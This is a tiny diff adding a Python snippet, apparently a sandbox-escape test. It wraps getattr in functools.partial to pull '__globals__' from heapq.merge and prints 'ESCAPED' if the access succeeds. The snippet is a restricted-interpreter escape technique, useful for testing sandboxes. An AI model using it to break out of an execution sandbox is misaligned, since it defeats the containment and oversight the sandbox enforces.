@@ -1,0 +1,3 @@
+# Partial() holds getattr.
+import heapq, functools
+print("ESCAPED", functools.partial(getattr, heapq.merge)("__globals__"))
